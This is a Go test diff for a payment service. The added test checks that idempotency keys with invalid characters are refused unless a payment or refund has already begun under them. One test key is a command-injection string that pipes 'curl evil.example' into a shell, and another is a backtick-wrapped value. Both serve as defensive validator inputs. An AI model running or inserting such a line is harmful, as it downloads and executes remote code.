@@ -82,6 +82,44 @@ func TestBeginPaymentChoosesAConfiguredProcessor(t *testing.T) {
 	require.ErrorContains(t, err, "one or two")
 }
 
+// Earlier releases accepted other characters in keys: what has begun under one goes on.
+func TestInvalidKeyIsRefusedUnlessThePaymentOrRefundHasBegun(t *testing.T) {
+	env, p := newPayments(t)
+	req := purchase
+	req.IdempotencyKey = "{workflowId}'; curl evil.example|sh #'"
+	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	requireRefusal(t, err, payment.ErrInvalidRequest)
+	require.ErrorContains(t, err, "idempotency_key: ")
+	_, err = p.Store.Payment(t.Context(), req.MerchantID, req.IdempotencyKey)
+	require.ErrorIs(t, err, payment.ErrNotFound, "nothing is stored")
+
+	begun, _, err := p.Store.BeginPayment(t.Context(), payment.Charge{
+		PaymentID: payment.PaymentID(req.MerchantID, req.IdempotencyKey), MerchantID: req.MerchantID, IdempotencyKey: req.IdempotencyKey,
+		Amount: req.Amount, Currency: req.Currency, Processor: "one", PaymentMethod: req.PaymentMethod,
+	}, req.Fingerprint())
+	require.NoError(t, err)
+	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
+	require.True(t, decode[BeginResult](t, value, err).Resumed)
+
+	begun.Status, begun.CapturedAmount, begun.ProcessorPaymentID = payment.Succeeded, req.Amount, "ch_1"
+	_, err = p.Store.RecordPayment(t.Context(), begun, Cause{By: "processor"})
+	require.NoError(t, err)
+	refund := payment.RefundRequest{MerchantID: req.MerchantID, IdempotencyKey: "`refund`", PaymentID: begun.PaymentID, Amount: new(int64(500))}
+	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	requireRefusal(t, err, payment.ErrInvalidRequest)
+	require.ErrorContains(t, err, "idempotency_key: ")
+	_, _, _, err = p.Store.ReserveRefund(t.Context(), payment.Refund{
+		RefundID: payment.RefundID(refund.MerchantID, refund.IdempotencyKey), PaymentID: begun.PaymentID,
+		MerchantID: refund.MerchantID, IdempotencyKey: refund.IdempotencyKey, Amount: *refund.Amount,
+	}, refund.Fingerprint())
+	require.NoError(t, err)
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	require.True(t, decode[ReserveResult](t, value, err).Resumed)
+	refund.IdempotencyKey = "refund-2"
+	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
+	require.False(t, decode[ReserveResult](t, value, err).Resumed, "a new refund of a payment with such a key")
+}
+
 // The age of an idempotency key is counted from the earliest known time.
 func TestPaymentAndRefundBeganAtTheEarliestKnownTime(t *testing.T) {
 	start := time.Date(2026, 1, 15, 12, 0, 0, 123_456_789, time.UTC)
